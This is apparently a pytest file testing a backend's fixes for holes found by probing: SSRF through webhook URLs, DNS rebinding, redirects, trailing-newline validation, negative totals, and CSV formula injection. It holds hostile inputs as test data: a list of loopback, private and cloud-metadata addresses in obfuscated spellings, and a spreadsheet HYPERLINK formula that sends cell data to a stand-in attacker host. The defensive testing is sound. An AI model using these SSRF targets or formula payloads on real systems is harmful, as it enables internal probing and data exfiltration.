"""Holes found by probing the running app (issue 10), data side: webhook targets (SSRF),
patterns that let a trailing newline through, negative totals, the "current" occupancy of
out-of-order batches, and spreadsheet formulas in CSV exports."""
from __future__ import annotations

import csv
import io
import socket
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest

from backend.services import webhook_targets
from backend.services.webhooks import Delivery, RetryPolicy, deliver
from tests.backend.test_api_alerts import Hook, wait_for
from tests.backend.conftest import make_user, sample

LOCAL_URLS = [
    "http://127.0.0.1:6379/", "http://localhost/hook", "http://[::1]/", "http://0x7f000001/",
    "http://2130706433/", "http://0/", "http://10.0.0.1/", "http://169.254.169.254/latest",
    "http://[::ffff:127.0.0.1]/", "http://127.1/", "http://192.168.1.20:8080/",
    "http://[fe80::1]/", "http://224.0.0.1/", "http://100.64.0.1/",
]


# ---------- 2. webhook targets ----------

@pytest.mark.parametrize("url", LOCAL_URLS)
def test_local_targets_are_refused_at_send_time_in_every_spelling(url):
    with pytest.raises(webhook_targets.TargetRefused):
        webhook_targets.vet(url, allow_private=False)


@pytest.mark.parametrize("url", ["ftp://example.com/", "http://user:pw@example.com/",
                                 "http://user@example.com/", "http:///nohost", "gopher://x/"])
def test_other_schemes_credentials_and_missing_hosts_are_refused(url):
    with pytest.raises(webhook_targets.TargetRefused):
        webhook_targets.vet(url, allow_private=True)


def fake_resolver(*addresses):
    def resolve(host, port, **kwargs):
        return [(socket.AF_INET6 if ":" in a else socket.AF_INET, socket.SOCK_STREAM, 6, "",
                 (a, port)) for a in addresses]
    return resolve


def test_a_name_is_refused_when_any_of_its_addresses_is_local():
    with pytest.raises(webhook_targets.TargetRefused):
        webhook_targets.vet("https://hooks.example.com/x", False,
                            fake_resolver("93.184.216.34", "10.0.0.5"))
    vetted = webhook_targets.vet("https://hooks.example.com/x?a=1", False,
                                 fake_resolver("93.184.216.34"))
    assert (vetted.address, vetted.target.host, vetted.target.port, vetted.target.path) == \
        ("93.184.216.34", "hooks.example.com", 443, "/x?a=1")


def test_the_connection_goes_to_the_vetted_address_with_the_urls_host(monkeypatch):
    """DNS is asked once, at vetting; the POST goes to that address (no second lookup that
    a rebinding DNS server could answer differently), with Host naming the URL's host."""
    hook = Hook()
    real_getaddrinfo = socket.getaddrinfo
    names_asked = []

    def rebinding_dns(host, port, *args, **kwargs):
        if webhook_targets.literal_address(host) is not None:
            return real_getaddrinfo(host, port, *args, **kwargs)
        names_asked.append(host)  # first answer loopback, then a public address
        address = "127.0.0.1" if len(names_asked) == 1 else "93.184.216.34"
        return fake_resolver(address)(host, port)

    try:
        port = hook.server.server_port
        url = f"http://hooks.example.test:{port}/hook"
        monkeypatch.setattr(socket, "getaddrinfo", rebinding_dns)
        delivery = Delivery(url=url, secret="k", event="alert_start", payload={}, alert_id=1)
        assert deliver(delivery, RetryPolicy(attempts=1, allow_private=True)) == "delivered"
        assert names_asked == ["hooks.example.test"]
        assert hook.calls[0]["headers"]["host"] == f"hooks.example.test:{port}"
        monkeypatch.setattr(socket, "getaddrinfo", fake_resolver("127.0.0.1"))
        status = deliver(delivery, RetryPolicy(attempts=3), sleep=lambda s: None)
        assert status.startswith("failed: refused target") and len(hook.calls) == 1
    finally:
        hook.close()


def test_a_loopback_receiver_is_reached_only_when_private_targets_are_allowed():
    hook = Hook()
    try:
        delivery = Delivery(url=hook.url, secret="k", event="alert_start", payload={},
                            alert_id=1)
        refused = deliver(delivery, RetryPolicy(attempts=3), sleep=lambda s: None)
        assert refused.startswith("failed: refused target") and "loopback" in refused
        assert hook.calls == []
        assert deliver(delivery, RetryPolicy(attempts=1, allow_private=True)) == "delivered"
        assert len(hook.calls) == 1
    finally:
        hook.close()


def test_an_address_with_letters_beyond_ascii_in_its_path_is_delivered():
    """The form and the API accept https://ntfy.example/Tür?ort=Köln, but every delivery
    failed ("failed: UnicodeEncodeError", retried in vain): the path is sent as a browser
    sends it, percent-encoded UTF-8; what was already percent-encoded stays as it was."""
    hook = Hook()
    try:
        delivery = Delivery(url=hook.url + "/Tür%20A?ort=Köln&x=%C3%A9", secret="k",
                            event="alert_start", payload={}, alert_id=1)
        assert deliver(delivery, RetryPolicy(attempts=1, allow_private=True)) == "delivered"
        assert [call["path"] for call in hook.calls] == [
            "/hook/T%C3%BCr%20A?ort=K%C3%B6ln&x=%C3%A9"]
    finally:
        hook.close()


class Redirector:
    """Answers every POST with 302 to another address."""

    def __init__(self, location: str) -> None:
        self.calls = 0
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):  # noqa: N802
                owner.calls += 1
                self.send_response(302)
                self.send_header("Location", location)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/hook"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def test_a_redirect_is_not_followed():
    target = Hook()
    redirector = Redirector(target.url)
    try:
        delivery = Delivery(url=redirector.url, secret="k", event="alert_start", payload={},
                            alert_id=1)
        status = deliver(delivery, RetryPolicy(attempts=3, allow_private=True),
                         sleep=lambda s: None)
        assert status == "failed: redirect (HTTP 302) not followed"
        assert redirector.calls == 1 and target.calls == []
    finally:
        redirector.close()
        target.close()


@pytest.mark.parametrize("url", ["http://127.0.0.1:6379/", "http://0x7f000001/",
                                 "http://localhost/x", "http://[::1]/", "http://0/",
                                 "http://u:p@example.com/",
                                 # spelt in other Unicode forms the resolver folds to ASCII
                                 "http://\uff11\uff12\uff17.\uff10.\uff10.\uff11/",
                                 "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3/"])
def test_saving_a_zone_with_a_local_webhook_is_a_422(app, alice, url):
    response = alice.post("/api/zones", json={
        "name": "Queue", "kind": "polygon", "camera_key": "cam", "frame_width": 100,
        "frame_height": 100, "geometry": {"points": [[0, 0], [50, 0], [50, 50]]},
        "webhook_url": url})
    assert response.status_code == 422 and "webhook_url" in response.get_json()["fields"]


def test_the_send_time_check_refuses_a_zone_saved_while_private_was_allowed(app, alice):
    hook = Hook()
    try:
        app.config.update(WEBHOOK_ALLOW_PRIVATE=True, WEBHOOK_BACKOFF_SECONDS=0.01)
        zone = alice.create_zone(name="Queue", threshold=1, webhook_url=hook.url)
        app.config["WEBHOOK_ALLOW_PRIVATE"] = False
        run = alice.create_run()
        key = f"zone-{zone['id']}"
        assert alice.post_batch(run["id"], [], [{"ts": "2026-03-01T10:00:00Z", "zone_key": key,
                                                 "kind": "alert_start", "value": 3}]
                                ).status_code == 201
        status = wait_for(lambda: alice.get("/api/alerts").get_json()["items"][0]
                          ["webhook_status"] not in (None, "pending") and
                          alice.get("/api/alerts").get_json()["items"][0]["webhook_status"])
        assert status.startswith("failed: refused target") and hook.calls == []
    finally:
        hook.close()


# ---------- 5. a trailing newline is not part of a valid key or colour ----------

def test_a_trailing_newline_is_refused_in_keys_and_colours(app, alice):
    run = alice.create_run()
    for samples, batch_id in (([sample("2026-03-01T10:00:00Z", "k\n")], None),
                              ([sample("2026-03-01T10:00:00Z", "k")], "b\n")):
        response = alice.post_batch(run["id"], samples, batch_id=batch_id)
        assert response.status_code == 422, response.get_json()
    response = alice.post("/api/runs", json={"client_run_id": "k\n", "source_kind": "webcam",
                                             "camera_key": "cam"})
    assert response.status_code == 422 and "client_run_id" in response.get_json()["fields"]
    response = alice.post("/api/zones", json={
        "name": "Queue", "kind": "polygon", "camera_key": "cam", "frame_width": 100,
        "frame_height": 100, "geometry": {"points": [[0, 0], [50, 0], [50, 50]]},
        "color": "#0f766e\n"})
    assert response.status_code == 422 and "color" in response.get_json()["fields"]
    assert alice.get(f"/api/runs/{run['id']}/stats").get_json()["zones"] == []


# ---------- 6. negative totals ----------

def zone_totals(user, run_id: int) -> dict:
    body = user.get(f"/api/runs/{run_id}/stats").get_json()
    return {z["zone_key"]: (z["entries"], z["exits"]) for z in body["zones"]}


def test_negative_changes_only_on_lines_and_never_below_zero(app, alice):
    polygon = alice.create_zone(name="Shop")
    line = alice.create_zone(name="Door", kind="line",
                             geometry={"points": [[0, 100], [300, 100]], "flipped": False})
    run = alice.create_run()
    polygon_key, line_key = f"zone-{polygon['id']}", f"zone-{line['id']}"
    refused = [
        [sample("2026-03-01T10:00:00Z", polygon_key, entries=5)]
        + [sample("2026-03-01T10:00:01Z", polygon_key, entries=-50)],
        [sample("2026-03-01T10:00:00Z", "new-key", entries=-1_000_000)],
        [sample("2026-03-01T10:00:00Z", line_key, exits=-1)],
    ]
    for samples in refused:
        response = alice.post_batch(run["id"], samples)
        assert response.status_code == 422, samples
        assert response.get_json()["fields"]["samples"]
    assert zone_totals(alice, run["id"]) == {}
    # A line's crossing cancelled by the walk back, in the same or a later batch, is fine.
    assert alice.post_batch(run["id"], [sample("2026-03-01T10:00:00Z", line_key, entries=2),
                                        sample("2026-03-01T10:00:01Z", line_key, entries=-1)]
                            ).status_code == 201
    assert alice.post_batch(run["id"], [sample("2026-03-01T10:00:02Z", line_key, entries=-1)]
                            ).status_code == 201
    assert alice.post_batch(run["id"], [sample("2026-03-01T10:00:03Z", line_key, entries=-1)]
                            ).status_code == 422
    assert zone_totals(alice, run["id"]) == {line_key: (0, 0)}


# ---------- 7. "current" occupancy is the latest by time ----------

def test_current_occupancy_is_the_latest_sample_by_time_not_by_arrival(app, alice):
    run = alice.create_run()
    assert alice.post_batch(run["id"], [sample("2026-03-01T10:10:00Z", "zone-a", occupancy=7)]
                            ).status_code == 201
    assert alice.post_batch(run["id"], [sample("2026-03-01T10:05:00Z", "zone-a", occupancy=2)]
                            ).status_code == 201
    zones = alice.get(f"/api/runs/{run['id']}/stats").get_json()["zones"]
    assert [(z["zone_key"], z["current_occupancy"]) for z in zones] == [("zone-a", 7)]
    # Same time twice: the one stored last wins (deterministic on both databases).
    alice.post_batch(run["id"], [sample("2026-03-01T10:10:00Z", "zone-a", occupancy=4)])
    zones = alice.get(f"/api/runs/{run['id']}/stats").get_json()["zones"]
    assert zones[0]["current_occupancy"] == 4


# ---------- 9. CSV cells that a spreadsheet would run ----------

def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_csv_cells_that_start_a_formula_are_neutralised(app):
    user = make_user(app)
    zone = user.create_zone(name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    run = user.create_run()
    key = f"zone-{zone['id']}"
    user.post_batch(run["id"], [sample("2026-03-01T10:00:00Z", key, occupancy=1, entries=1),
                                sample("2026-03-01T10:00:00Z", "-x:1", occupancy=1)],
                    [{"ts": "2026-03-01T10:00:00Z", "zone_key": "-in", "kind": "in"}])
    buckets = csv_rows(user.get(f"/api/runs/{run['id']}/export.csv?bucket=1h"))
    names = {row["zone_key"]: row["zone_name"] for row in buckets}
    assert names[key] == "'" + zone["name"]
    assert "'-x:1" in names
    samples = csv_rows(user.get(f"/api/runs/{run['id']}/export.csv?kind=samples"))
    assert sorted(row["zone_key"] for row in samples) == ["'-x:1", key]
    events = csv_rows(user.get(f"/api/runs/{run['id']}/export.csv?kind=events"))
    assert [row["zone_key"] for row in events] == ["'-in"]
    for row in samples + events + buckets:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")) and \
                not (value.startswith("-") and not value.lstrip("-").replace(".", "").isdigit())
